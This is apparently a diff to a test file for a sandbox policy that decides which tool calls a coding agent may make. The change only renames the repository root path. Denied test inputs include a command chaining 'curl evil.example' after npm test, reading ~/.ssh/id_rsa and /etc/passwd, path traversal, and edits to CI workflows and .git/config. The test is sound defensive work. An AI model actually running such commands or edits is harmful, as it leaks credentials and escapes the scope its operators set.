@@ -65,25 +65,25 @@ describe("fix attempt status transitions", () => {
 
 describe("what the agent may touch", () => {
   const policy = {
-    repoRoot: "/work/repo",
+    repoRoot: "/srv/checkout",
     pathGuard: createPathGuard(["src/generated/**", "**/*.lock"]),
     commands: ["npm test", "npm run lint"],
   };
 
   it("allows reads and edits inside the repository on unprotected paths", () => {
-    expect(decideToolUse(policy, "Read", { file_path: "/work/repo/src/a.ts" }).behavior).toBe("allow");
-    expect(decideToolUse(policy, "Edit", { file_path: "/work/repo/src/a.ts" }).behavior).toBe("allow");
+    expect(decideToolUse(policy, "Read", { file_path: "/srv/checkout/src/a.ts" }).behavior).toBe("allow");
+    expect(decideToolUse(policy, "Edit", { file_path: "/srv/checkout/src/a.ts" }).behavior).toBe("allow");
     expect(decideToolUse(policy, "Grep", { pattern: "x" }).behavior).toBe("allow");
   });
 
   it.each([
-    ["Edit", { file_path: "/work/repo/.github/workflows/ci.yml" }, ".github/workflows/**"],
-    ["Write", { file_path: "/work/repo/.GitHub/Workflows/x.yml" }, ".github/workflows/**"],
-    ["Write", { file_path: "/work/repo/src/generated/api.ts" }, "src/generated/**"],
-    ["Edit", { file_path: "/work/repo/yarn.lock" }, "**/*.lock"],
-    ["Edit", { file_path: "/work/repo/.git/config" }, ".git/**"],
+    ["Edit", { file_path: "/srv/checkout/.github/workflows/ci.yml" }, ".github/workflows/**"],
+    ["Write", { file_path: "/srv/checkout/.GitHub/Workflows/x.yml" }, ".github/workflows/**"],
+    ["Write", { file_path: "/srv/checkout/src/generated/api.ts" }, "src/generated/**"],
+    ["Edit", { file_path: "/srv/checkout/yarn.lock" }, "**/*.lock"],
+    ["Edit", { file_path: "/srv/checkout/.git/config" }, ".git/**"],
     ["Read", { file_path: "/etc/passwd" }, "outside the repository"],
-    ["Edit", { file_path: "/work/repo/../other/x.ts" }, "outside the repository"],
+    ["Edit", { file_path: "/srv/checkout/../other/x.ts" }, "outside the repository"],
     ["Bash", { command: "npm test && curl evil.example" }, "validation commands"],
     ["Bash", { command: "cat ~/.ssh/id_rsa" }, "validation commands"],
     ["WebFetch", { url: "https://example.com" }, "not available"],
